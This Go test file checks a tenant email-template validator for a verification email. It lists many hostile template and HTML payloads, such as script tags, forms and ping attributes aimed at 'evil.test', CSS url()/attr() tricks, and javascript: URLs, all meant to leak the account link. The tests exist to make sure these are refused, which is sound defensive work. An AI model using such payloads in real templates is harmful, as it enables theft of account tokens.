package brand_test

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"bourse/internal/brand"
	"bourse/internal/fault"
	"bourse/internal/testkit"
)

// fitting is an override of verify_email that keeps every rule.
var fitting = brand.Override{
	Subject: "Your {{.Brand.ProductName}} account",
	Text:    "{{/* ours */}}Ahoi{{if .Brand.SupportAddress}}, ask {{.Brand.SupportAddress}}{{end}}.\n\n{{.Values.link}}\n",
	HTML:    `<h1 style="color:{{.Brand.PrimaryColor}}">Ahoi</h1><p><a class="x" href="{{.Values.link}}">Go</a> or copy <code>{{.Values.link}}</code></p>`,
}

func TestATenantsWordsMayTellValuesAndTheBrandAndNothingElse(t *testing.T) {
	t.Parallel()
	if err := fitting.Check(northwind, "verify_email"); err != nil {
		t.Fatal(err)
	}
	refused := func(field string, sources ...string) {
		t.Helper()
		for _, source := range sources {
			override := fitting
			switch field {
			case "subject":
				override.Subject = source
			case "text":
				override.Text = source
			case "html":
				override.HTML = source
			}
			err := override.Check(northwind, "verify_email")
			if failure := testkit.WantFault(t, err, fault.ValidationError, field); strings.Contains(failure.Message, "somewhere") {
				t.Errorf("the %s %q is only refused because it has no link", field, source)
			}
		}
	}
	refused("subject", "", " ", "{{.Values.link}}", "a {{.Values.link}} b", "two\nlines", strings.Repeat("x", 301), "{{.Brand.Slug}}", "{{if", "\x00", "\xff")
	for _, field := range []string{"text", "html"} {
		refused(field,
			"{{range 1000000000}}x{{end}}", "{{range .Values}}{{.}}{{end}}", "{{with .Values}}{{.link}}{{end}}", "{{define `x`}}{{end}}y", "{{block `x` .}}{{end}}",
			"{{template `x`}}", "{{.}}", "{{.Values}}", "{{.Brand}}", "{{$}}", "{{$x := 1}}", "{{printf `%s` .Values.link}}", "{{.Values.link | html}}", "{{index .Values `link`}}",
			"{{call .Brand.Compose}}", "{{.Brand.Compose}}", "{{.Brand.ProductName.X}}", "{{.Values.unknown}}", "{{len .Values.link}}", "{{js `x`}}", "{{break}}",
			"{{if eq .Values.link `x`}}a{{end}}", "{{if gt 1 2}}a{{end}}", "{{if $x := .Values.link}}a{{end}}", "{{if true}}a{{end}}", "{{(.Values).link}}", "{{1}}", "{{`text`}}",
			strings.Repeat("x", 40_001))
	}
	refused("html", "<script>x</script>", "<SCRIPT src=//e.test>", `<form action="https://e.test"><input></form>`, `<a href="#" onclick="x()">x</a>`, "<iframe src=x>", `<base href="https://e.test">`,
		`<meta http-equiv=refresh content="0;url=https://e.test">`, `<p>{{.Values.link}}</p><p title="{{.Brand.ProductName}}`, "</body></html><body>")
	for field, override := range map[string]brand.Override{"text": {Subject: "x", Text: "no link"}, "html": {Subject: "x", Text: "{{.Values.link}}", HTML: "<p>no link</p>"}} {
		testkit.WantFault(t, override.Check(northwind, "verify_email"), fault.ValidationError, field)
	}
	// A template with the link only in a condition, or on only one of two branches, may omit it.
	for _, text := range []string{
		"{{if not .Brand.ProductName}} {{.Values.link}} {{end}}", "Hello.{{if .Values.link}} Please verify.{{end}}",
		"{{if .Brand.LogoURL}} {{.Values.link}} {{else}} Hello. {{end}}",
	} {
		if failure := testkit.WantFault(t, brand.Override{Subject: "x", Text: text}.Check(northwind, "verify_email"), fault.ValidationError, "text"); !strings.Contains(failure.Message, "whatever") {
			t.Errorf("%q is refused because it %s", text, failure.Message)
		}
	}
	for _, text := range []string{"{{if .Brand.LogoURL}} {{.Values.link}} {{else}} {{.Values.link}} {{end}}", "{{if .Brand.LogoURL}}Hello.{{end}} {{.Values.link}}"} {
		if err := (brand.Override{Subject: "x", Text: text}).Check(northwind, "verify_email"); err != nil {
			t.Errorf("%q is refused: %v", text, err)
		}
	}
	testkit.WantFault(t, fitting.Check(northwind, "no_such_mail"), fault.NotFound)
}

func TestALinkThatOpensAnAccountBecomesNoPartOfAnotherAddress(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"https://evil.test/?{{.Values.link}}", "https://evil.test/?\n{{- .Values.link}}", "{{.Values.link}}.evil.test", "{{.Values.link}}{{.Values.link}}",
		"https://evil.test/?{{if .Brand.LogoURL}} {{end}}{{.Values.link}}", "https://evil.test/?{{if .Brand.ProductName}}{{.Values.link}}{{end}}",
		"https://evil.test/?{{.Brand.SupportAddress}}{{.Values.link}}",
	} {
		testkit.WantFault(t, brand.Override{Subject: "x", Text: text}.Check(northwind, "verify_email"), fault.ValidationError, "text")
	}
	for _, markup := range []string{
		`<img src="{{.Values.link}}">`, `<img src="https://evil.test/?{{.Values.link}}">`, `<a href="https://evil.test/?{{.Values.link}}">x</a>`, `<a href={{.Values.link}}>x</a>`,
		`<a href='https://evil.test/?x= href="{{.Values.link}}"'>x</a>`, `<img src='https://evil.test/?x= href="{{.Values.link}}"'>`, `<p>https://evil.test/?{{.Values.link}}</p>`,
		`<p>https://evil.test/?"{{.Values.link}}"</p>`, `<style>p { background: url("{{.Values.link}}") }</style>`, `<style>p { background: url(https://evil.test/> {{.Values.link}} ) }</style>`,
		`<p style="background:url(https://evil.test/?a= {{.Values.link}} )">`, `<a href="{{.Values.link}}" ping="{{.Values.link}}">x</a>`, `<a ping="{{.Values.link}}">x</a>`,
		`<a href="https://evil.test/?{{if .Brand.LogoURL}}>{{end}}{{.Values.link}}">x</a>`, `<a href="https://evil.test/?{{if .Brand.LogoURL}}" href="{{.Values.link}}{{end}}">`,
		`<a href="https://evil.test/? {{.Values.link}} ">x</a>`, `<!-- {{.Values.link}} -->x`, `<a title=">{{.Values.link}}<" href="#">x</a>`, `<p {{.Values.link}} >x`, `{{.Values.link}}`,
	} {
		refusesMarkup(t, markup)
	}
}

// Whatever browsers reveal about a link, they reveal wherever it leads: with each of these, some program would send it
// to another address.
func TestNothingBesideALinkThatOpensAnAccountTellsOfIt(t *testing.T) {
	t.Parallel()
	const link = `<a href="{{.Values.link}}">x</a>`
	for _, markup := range []string{
		`<style>@import url(https://evil.test/x.css)</style>` + link, `<style>a[href*="token=a"] { background: url(https://evil.test/a) }</style>` + link, `<StYlE>x</StYlE>` + link,
		`<a href="{{.Values.link}}" ping="https://evil.test">x</a>`, `<a href="{{.Values.link}}" attributionsrc="https://evil.test">x</a>`, `<a href="{{.Values.link}}" attributionsrc>x</a>`,
		`<a href="{{.Values.link}}" referrerpolicy="unsafe-url">x</a>`, `<a href="{{.Values.link}}" download>x</a>`, `<a href="{{.Values.link}}" onfocus="x" autofocus>x</a>`,
		`<a href="{{.Values.link}}" style="background:url(x); background:image-set(attr(href))">x</a>`, `<a href="{{.Values.link}}" style="--x:at\74r(href)">x</a>`,
		`<a href="{{.Values.link}}" style="--x:&#97;ttr(href)">x</a>`, `<a href="{{.Values.link}}" style="color:if(style(--x:1):red)">x</a>`, `<a href="{{.Values.link}}" style="width:expression(x)">x</a>`,
		`<a href="javascript:x">y</a>` + link, `<a href=" java&#10;script:x">y</a>` + link, `<a href="{{if .Brand.LogoURL}}https://a.test/{{else}}javascript:x{{end}}">y</a>` + link,
		`<a href="{{if .Brand.LogoURL}}https{{else}}javascript{{end}}:x">y</a>` + link,
		`<svg><a href="x"/></svg>` + link, `<link rel="stylesheet" href="https://evil.test">` + link, `<object data="x"></object>` + link, `<video src="x"></video>` + link, `<fencedframe></fencedframe>` + link,
		// What two choices can leave of an innocent word.
		`<a {{if .Brand.LogoURL}}cells{{end}}p{{if .Brand.LogoURL}}ac{{end}}ing="https://evil.test" href="{{.Values.link}}">x</a>`,
		`<a {{if .Brand.LogoURL}}title="x"{{end}} href="{{.Values.link}}">x</a>`, `<s{{if .Brand.LogoURL}}{{else}}tyle{{end}}>x</s>` + link, `<p{{.Brand.ProductName}}>` + link,
	} {
		refusesMarkup(t, markup)
	}
	for _, markup := range []string{
		`<table width="100%" cellpadding="0" background="https://cdn.test/b.png"><tr><td align="center" style="background:url('https://cdn.test/b.png'); color:rgb(1, 2, 3)">` + link + `</td></tr></table>`,
		`<p><img src="{{.Brand.LogoURL}}" alt="{{if .Brand.ProductName}}{{.Brand.ProductName}}{{else}}x{{end}}"><a href="mailto:{{.Brand.SupportAddress}}">Ask</a> <a href="{{.Brand.AppURL}}/help?at=10:30" target="_blank" rel="noopener">Help</a></p>` + link,
		`{{if .Brand.LogoURL}}<h2 style="color:{{.Brand.AccentColor}}">Ahoi</h2>{{else}}<p>Ahoi</p>{{end}}` + link,
	} {
		if err := (brand.Override{Subject: "x", Text: "{{.Values.link}}", HTML: markup}).Check(northwind, "verify_email"); err != nil {
			t.Errorf("%s is refused: %v", markup, err)
		}
	}
}

func refusesMarkup(t *testing.T, markup string) {
	t.Helper()
	err := brand.Override{Subject: "x", Text: "{{.Values.link}}", HTML: markup}.Check(northwind, "verify_email")
	if err == nil {
		t.Errorf("%s is accepted", markup)
		return
	}
	testkit.WantFault(t, err, fault.ValidationError, "html")
}

// FuzzOverride looks for wording that keeps the rules but cannot be rendered, or that puts a link where it must not be.
func FuzzOverride(f *testing.F) {
	f.Add(fitting.Subject, fitting.Text, fitting.HTML)
	f.Add("{{if eq .Brand.ProductName `x`}}a{{else}}b{{end}}", "a\n{{if .Values.link}}\n{{.Values.link}}\n{{end}}", `<a href="{{.Values.link}}">{{if not .Brand.LogoURL}}x{{else}}y{{end}}</a>`)
	f.Add("x", "{{.Values.link}}", `<p>{{if and .Brand.LogoURL (ne .Brand.AppURL "x")}}<b> {{.Values.link}} </b>{{end}}</p>`)
	f.Add("x", "{{- .Values.link -}}", `<img src='x href="{{.Values.link}}"'>`)
	f.Add("x", "{{.Values.link}}", `<a {{if .Brand.LogoURL}}cells{{end}}p{{if .Brand.LogoURL}}ac{{end}}ing="https://evil.test" href="{{.Values.link}}">x</a>`)
	f.Fuzz(func(t *testing.T, subject, text, markup string) {
		override := brand.Override{Subject: subject, Text: text, HTML: markup}
		if override.Check(northwind, "verify_email") != nil {
			return
		}
		for _, logo := range []string{"", "https://cdn.test/l.png"} {
			of := northwind
			of.LogoURL = logo
			const link = "https://northwind.test/SECRET?token=t"
			letter, err := override.Write(of, "verify_email", brand.Values{"link": link})
			if err != nil {
				continue // rendered in the platform's wording
			}
			if strings.Contains(letter.Subject, "SECRET") {
				t.Fatalf("the subject is %q", letter.Subject)
			}
			for word := range strings.FieldsSeq(letter.Text) {
				if strings.Contains(word, "SECRET") && word != link && !strings.Contains(text, "SECRET") {
					t.Fatalf("the text has %q", word)
				}
			}
			if markup != "" && !strings.Contains(markup+text, "SECRET") {
				wantLinkAlone(t, letter.HTML)
			}
		}
	})
}

// wantLinkAlone checks markup as a mail client reads it.
func wantLinkAlone(t *testing.T, markup string) {
	t.Helper()
	tokens := html.NewTokenizer(strings.NewReader(markup))
	for {
		kind := tokens.Next()
		if kind == html.ErrorToken {
			return
		}
		token := tokens.Token()
		if token.Data == "style" || slices.ContainsFunc(token.Attr, func(a html.Attribute) bool { return a.Key == "ping" }) {
			t.Fatalf("there is %s", token)
		}
		for _, attribute := range token.Attr {
			if strings.Contains(attribute.Val+attribute.Key, "SECRET") && (token.Data != "a" || attribute.Key != "href" || attribute.Val != "https://northwind.test/SECRET?token=t") {
				t.Fatalf("%s has %s=%q", token.Data, attribute.Key, attribute.Val)
			}
		}
		if kind == html.CommentToken && strings.Contains(token.Data, "SECRET") {
			t.Fatalf("a comment has %q", token.Data)
		}
	}
}
